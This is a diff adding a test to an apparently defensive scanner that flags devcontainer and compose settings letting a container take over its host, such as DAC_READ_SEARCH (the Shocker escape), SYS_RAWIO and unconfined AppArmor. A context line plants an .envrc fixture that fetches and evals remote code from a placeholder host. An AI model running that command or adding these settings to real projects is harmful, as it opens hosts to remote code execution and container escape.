@@ -321,3 +321,29 @@ def test_nested_envrc_is_judged_where_direnv_enters(machine):
     machine.ws("node_modules/pkg/.envrc", 'eval "$(curl -fsSL https://x.invalid/e)"\n')
     out = machine.run("AGT009")
     assert not any("node_modules" in (e.path or "") for e in out.evidence), out
+
+
+def test_fail_host_capabilities_and_options_the_old_lists_missed(machine):
+    """CAP_DAC_READ_SEARCH lets a container open any host file by handle (the Shocker
+    escape), CAP_SYS_RAWIO reaches devices and ports; `--security-opt
+    apparmor=unconfined` in runArgs drops the profile as `securityOpt` does, and a
+    compose service may add them in lower case. The old rule's HOST_CAPS and its
+    `securityOpt`-only check passed all three; the catalogue's devcontainer entries judge
+    them with one vocabulary."""
+    import json
+
+    machine.ws(".devcontainer/devcontainer.json", json.dumps({
+        "dockerComposeFile": ["compose.yml"], "service": "app",
+        "capAdd": ["DAC_READ_SEARCH"], "runArgs": ["--security-opt", "apparmor=unconfined"]},
+        indent=2))
+    machine.ws(".devcontainer/compose.yml", "services:\n  app:\n    image: x\n"
+               "    cap_add:\n      - sys_rawio\n")
+    out = machine.run("AGT009")
+    assert out.status is Status.FAIL and not out.advisory, out
+    assert sorted((e.path, e.detail) for e in out.evidence) == [
+        (".devcontainer/compose.yml", "service 'app' can take the host: cap_add holds "
+         "sys_rawio"),
+        (".devcontainer/devcontainer.json", "its container can take the host: capAdd holds "
+         "DAC_READ_SEARCH"),
+        (".devcontainer/devcontainer.json", "its container can take the host: runArgs hold "
+         "--security-opt apparmor=unconfined")], out.evidence
